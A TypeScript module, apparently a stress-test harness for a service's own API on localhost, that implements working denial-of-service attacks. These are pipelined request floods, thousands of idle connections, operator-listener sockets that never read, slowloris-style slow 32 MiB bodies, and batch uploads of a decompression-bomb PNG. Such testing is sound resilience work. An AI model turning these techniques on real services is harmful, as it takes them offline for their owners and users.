import { connect, type Socket } from 'node:net';
import { deflateSync } from 'node:zlib';
import type { Target } from './target.js';

/** Starts an attack; what it returns ends it. */
export type Attack = (target: Target) => Promise<() => void>;

const IDLE_SOCKETS = 2_000;
const OPERATOR_READERS = 200;
const SLOW_BODIES = 64;
const BODY_BYTES = 32 * 1024 * 1024;
const TRICKLE_MS = 1_000;
const FLOOD_BYTES = 64 * 1024;
const IMAGE_LINES = 400;
const IMAGE_SIDE = 1_568;
const REPEAT_MS = 50;

const QUESTIONS = { a: { type: 'noul', instructions: 'Is it?' } };
const head = (method: string, path: string, token: string, fields: readonly string[] = []) =>
  [`${method} ${path} HTTP/1.1`, 'Host: localhost', `Authorization: Bearer ${token}`, ...fields, '', ''].join(
    '\r\n',
  );
const post = (path: string, token: string, body: string, type = 'application/json') =>
  `${head('POST', path, token, [`Content-Type: ${type}`, `Content-Length: ${Buffer.byteLength(body)}`])}${body}`;

/** An open connection that ignores how it ends. */
function open(port: number): Socket {
  return connect(port, '127.0.0.1').on('error', () => {});
}

/** Keeps `count` connections open: one that was closed is opened again. */
function keepOpen(count: number, port: number, begin: (socket: Socket) => void): () => void {
  const sockets = new Set<Socket>();
  let isRunning = true;
  const add = () => {
    const socket = open(port);
    sockets.add(socket);
    socket.once('connect', () => begin(socket));
    socket.once('close', () => {
      sockets.delete(socket);
      if (isRunning) setTimeout(add, REPEAT_MS);
    });
  };
  for (let number = 0; number < count; number += 1) add();
  return () => {
    isRunning = false;
    for (const socket of sockets) socket.destroy();
  };
}

/** Requests behind one that runs, as many as the server reads. */
const pipelined: Attack = async ({ port, attackers: [token = ''] }) => {
  const question = post(
    '/v1/decide',
    token,
    JSON.stringify({ state: 'word '.repeat(400), questions: QUESTIONS }),
  );
  const health = head('GET', '/health', token);
  const flood = health.repeat(Math.ceil(FLOOD_BYTES / health.length));
  return keepOpen(1, port, (socket) => {
    socket.pause();
    const send = () => {
      while (socket.writable && socket.write(flood));
    };
    socket.on('drain', send);
    socket.write(question);
    send();
  });
};

/** Connections that send nothing. */
const idle: Attack = async ({ port }) => keepOpen(IDLE_SOCKETS, port, () => {});

/** Connections to the operator listener, without its token, that never read. */
const operatorReaders: Attack = async ({ operatorPort }) =>
  keepOpen(OPERATOR_READERS, operatorPort, (socket) => {
    socket.pause();
    socket.write(head('GET', '/metrics', 'none').repeat(100));
  });

/** Large bodies of which a byte arrives every second. */
const slowBodies: Attack = async ({ port, attackers }) => {
  let number = 0;
  return keepOpen(SLOW_BODIES, port, (socket) => {
    number += 1;
    const token = attackers[number % attackers.length] as string;
    socket.write(head('POST', '/v1/decide', token, [`Content-Length: ${BODY_BYTES}`]));
    const trickle = setInterval(() => socket.write(' '), TRICKLE_MS);
    socket.once('close', () => clearInterval(trickle)).resume();
  });
};

/** A PNG of one colour: a few kilobytes, and millions of pixels. */
function image(): string {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const sum = Buffer.alloc(4);
    sum.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, sum]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(IMAGE_SIDE, 0);
  header.writeUInt32BE(IMAGE_SIDE, 4);
  header.set([8, 0], 8);
  const pixels = deflateSync(Buffer.alloc(IMAGE_SIDE * (IMAGE_SIDE + 1)));
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([
    signature,
    chunk('IHDR', header),
    chunk('IDAT', pixels),
    chunk('IEND', Buffer.alloc(0)),
  ]).toString('base64');
}

// Node has it in zlib from version 22 on.
function crc32(bytes: Buffer): number {
  let sum = 0xffffffff;
  for (const byte of bytes) {
    sum ^= byte;
    for (let bit = 0; bit < 8; bit += 1) sum = (sum >>> 1) ^ (sum & 1 ? 0xedb88320 : 0);
  }
  return (sum ^ 0xffffffff) >>> 0;
}

/** Batch files with many images, of every key, again and again. */
const batchImages: Attack = async ({ port, attackers }) => {
  const assets = { '[p]': { format: 'png', data_base64: image() } };
  const line = (id: number) =>
    JSON.stringify({ custom_id: `${id}`, model: 'tiny', state: '[p]', questions: QUESTIONS, assets });
  const file = Array.from({ length: IMAGE_LINES }, (_, id) => line(id)).join('\n');
  let number = 0;
  return keepOpen(attackers.length, port, (socket) => {
    number += 1;
    const token = attackers[number % attackers.length] as string;
    socket.write(post('/v1/batches', token, file, 'application/jsonl'));
    socket.once('data', () => socket.destroy());
  });
};

/** Every attack, by its name in the table. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  'requests behind one that runs': pipelined,
  [`${IDLE_SOCKETS} connections without a request`]: idle,
  [`${OPERATOR_READERS} readers of the operator listener`]: operatorReaders,
  [`${SLOW_BODIES} slow bodies of 32 MiB`]: slowBodies,
  'batch files with images': batchImages,
};
